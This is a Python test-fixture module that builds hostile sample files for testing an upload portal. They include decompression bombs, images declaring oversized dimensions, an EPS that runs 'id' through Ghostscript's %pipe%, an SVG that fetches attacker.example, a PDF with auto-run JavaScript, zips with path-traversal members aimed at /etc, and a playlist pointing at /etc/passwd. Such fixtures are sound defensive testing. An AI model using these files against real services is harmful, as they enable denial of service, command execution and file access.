"""Sample files for tests: the honest ones, and hostile ones made here."""

import io
import random
import struct
import zipfile
import zlib

from PIL import Image

from portal.demo import samples as honest

SAMPLES = honest.SAMPLES


def _chunk(kind: bytes, data: bytes) -> bytes:
    check = zlib.crc32(kind + data)
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", check)


def png_bomb(width: int = 13_000, height: int = 13_000) -> bytes:
    """Return a small PNG that decodes to width x height black pixels."""
    packer = zlib.compressobj(9)
    row = bytes(1 + 3 * width)
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunks = ((b"IHDR", header), (b"IDAT", data), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(kind, body) for kind, body in chunks)


def png_lying(width: int = 60_000, height: int = 60_000) -> bytes:
    """Return a PNG that declares far more pixels than it holds."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunks = ((b"IHDR", header), (b"IDAT", zlib.compress(bytes(64))), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(kind, body) for kind, body in chunks)


def jpeg_many_scans(scans: int = 1_500, size: tuple[int, int] = (64, 64)) -> bytes:
    """Return a progressive JPEG whose last scan is repeated."""
    out = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(out, "JPEG", progressive=True)
    data = out.getvalue()
    last = data.rfind(b"\xff\xda")
    return data[:last] + data[last:-2] * scans + data[-2:]


def eps() -> bytes:
    """Return an EPS that would run a program through Ghostscript."""
    return b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id) (w) file\nshowpage\n"


def svg_with_script() -> bytes:
    """Return an SVG with a script and an outside reference."""
    return (
        b'<?xml version="1.0"?><!-- x -->\n<svg xmlns="http://www.w3.org/2000/svg">'
        b'<script>fetch("https://attacker.example")</script>'
        b'<image href="https://attacker.example/a.png"/></svg>'
    )


def html_page() -> bytes:
    """Return a page with a script."""
    return b"<!DOCTYPE html><html><script>alert(1)</script><p>hoi</p></html>"


def zip_bomb(layers: int = 2) -> bytes:
    """Return a zip that unpacks to 200 MiB a layer."""
    inner = b"\0" * (200 << 20)
    for number in range(layers):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(f"laag{number}.bin", inner)
        inner = out.getvalue()
        if number == 0:
            flat = inner
    return flat if layers == 1 else inner


def zip_with_paths() -> bytes:
    """Return a zip whose members want to leave their folder."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("../../etc/cron.d/x", b"x")
        archive.writestr("/etc/passwd", b"x")
    return out.getvalue()


def office(*, macros: bool = False) -> bytes:
    """Return the skeleton of a Word document."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("_rels/.rels", "<Relationships/>")
        archive.writestr("word/document.xml", "<document/>")
        if macros:
            archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")
    return out.getvalue()


def pdf_with_script() -> bytes:
    """Return a PDF that runs a script when it is opened."""
    return honest.pdf().replace(
        b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    )


def android_package() -> bytes:
    """Return the skeleton of an app."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("AndroidManifest.xml", b"x")
        archive.writestr("classes.dex", b"dex\n035\0")
    return out.getvalue()


def polyglot_jpeg_zip() -> bytes:
    """Return a valid JPEG with a zip behind it."""
    return honest.jpeg() + zip_with_paths()


def jpeg_header_then_script() -> bytes:
    """Return a file that only begins like a JPEG."""
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00<script>1</script>"


def gif_huge() -> bytes:
    """Return a GIF whose screen is 65535 x 65535."""
    return (
        b"GIF89a\xff\xff\xff\xff\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00\x00\x00\x00"
        b"\xff\xff\xff\xff\x00\x02\x02D\x01\x00;"
    )


def webp_huge() -> bytes:
    """Return a 30-byte WebP header that declares 16383 x 16383 pixels."""
    vp8x = b"VP8X" + struct.pack("<I", 10) + b"\x10\0\0\0" + b"\xfe\x3f\x00" * 2
    return b"RIFF" + struct.pack("<I", 4 + len(vp8x)) + b"WEBP" + vp8x


def png_text_bomb() -> bytes:
    """Return a PNG with a text chunk that inflates to 300 MiB."""
    packer = zlib.compressobj(9)
    text = b"".join(packer.compress(bytes(1 << 20)) for _ in range(300)) + packer.flush()
    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    chunks = (
        (b"IHDR", header),
        (b"zTXt", b"a\0\0" + text),
        (b"IDAT", zlib.compress(bytes(4))),
        (b"IEND", b""),
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(kind, body) for kind, body in chunks)


def playlist() -> bytes:
    """Return a playlist that names another file and another host."""
    return b"#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n#EXTINF:1,\nhttp://192.0.2.1/x.ts\n"


def program() -> bytes:
    """Return the beginning of a Windows program."""
    return b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0d\x86" + bytes(200)


def truncated(data: bytes, part: float) -> bytes:
    """Return the first `part` (0 to 1) of data."""
    return data[: int(len(data) * part)]


def noise(size: int, seed: int = 1) -> bytes:
    """Return bytes that are no format at all."""
    return random.Random(seed).randbytes(size)
